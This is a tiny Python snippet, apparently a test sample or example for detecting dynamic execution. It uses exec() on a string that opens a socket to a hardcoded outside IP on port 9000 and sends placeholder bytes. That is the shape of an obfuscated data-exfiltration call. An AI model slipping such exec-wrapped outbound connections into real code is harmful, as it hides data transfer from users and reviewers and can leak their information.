"""What is executed speaks to the network, which is open."""
import socket

exec("socket.create_connection(('93.184.216.35', 9000)).sendall(b'data')")
